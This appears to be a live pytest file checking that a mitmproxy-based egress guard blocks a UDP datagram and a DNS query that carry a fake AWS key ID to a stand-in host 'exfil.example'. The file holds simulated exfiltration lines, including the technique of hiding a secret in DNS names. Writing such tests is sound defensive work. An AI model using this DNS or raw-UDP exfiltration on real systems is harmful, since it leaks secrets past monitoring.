"""Live (attack26, root): a real mitmdump with the bundle and a `tun` listener (the packet listener `wireguard` and
`local` share: mitmproxy_rs hands it every packet routed to the device), the test network 198.18.226.0/24 (RFC 2544
benchmarking, public to exitguard's address checks) routed into it, and the test route addon sending every upstream
connection to a local UDP sink. A datagram holding a key and a DNS query for `akia....exfil.example` both reached the
sink before (raw forwarding and DNS forwarding run no HTTP hook). Checked: what the sink (the upstream) received,
and every byte the proxy wrote (log, index, .mitm); an ordinary query still goes through."""

from __future__ import annotations

import json
import socket
import time
from pathlib import Path

import pytest

from tests import fakes
from tests.live import harness
from tests.live.tun import dns_query as query
from tests.live.tun import received, start_tun_proxy

pytestmark = [pytest.mark.live, pytest.mark.root]

AKID = fakes.aws_key_id(2628)
DEVICE = "egtun26"
NETWORK = "198.18.226.0/24"






def test_raw_udp_and_dns_names_holding_a_key_leave_nowhere(tmp_path, upstream):
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sink.bind(("127.0.0.1", 0))
    record = tmp_path / "rec"
    proxy = start_tun_proxy(tmp_path, upstream, DEVICE, NETWORK, sink.getsockname()[1], record)
    try:
        agent = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        agent.sendto(f"hello {AKID} secret".encode(), ("198.18.226.5", 9999))
        agent.sendto(query(f"{AKID.lower()}.exfil.example", 0x2601), ("198.18.226.6", 53))
        agent.sendto(query("api.openai.com", 0x2602), ("198.18.226.6", 53))
        got = received(sink)
        assert not [d for d in got if AKID.encode() in d or AKID.lower().encode() in d], got
        assert any(b"\x03api\x06openai\x03com" in d for d in got), got  # an ordinary query is still forwarded
        time.sleep(0.5)
        assert proxy.stop() == 0
        written = harness.written(record)
        for spelling in (AKID, AKID.lower()):
            assert spelling.encode() not in written and spelling not in proxy.log
        assert "raw UDP is not inspected" in proxy.log and "DNS query" in proxy.log
        events = [json.loads(line) for p in Path(record).rglob("*.jsonl") for line in p.read_text().splitlines()]
        refused = {e.get("event"): e for e in events}
        assert (refused["udp_refused"]["host"], refused["udp_refused"]["port"]) == ("198.18.226.5", 9999)
        assert refused["dns_refused"]["questions"] and "exfil.example" in refused["dns_refused"]["questions"][0]
    finally:
        proxy.stop()
        sink.close()
